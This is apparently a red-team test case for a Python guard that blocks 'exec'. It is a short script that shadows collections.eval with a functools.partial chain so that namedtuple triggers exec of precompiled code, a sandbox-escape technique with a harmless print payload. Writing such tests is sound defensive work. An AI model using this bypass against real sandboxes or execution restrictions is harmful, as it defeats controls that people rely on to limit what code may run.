# red team: a module global `eval` shadowing the builtin in collections makes namedtuple's frame innermost while exec runs program code
# guard: exec
import collections, itertools, functools, typing
code = typing.ForwardRef("print('PWN exec of program code from namedtuple')").__forward_code__
env = {'print': print}
collections.eval = functools.partial(max, key=functools.partial(next, map(exec, itertools.repeat(code), itertools.repeat(env))))
try:
    collections.namedtuple('Q', 'x')
except TypeError:
    pass
print('PWN still running')
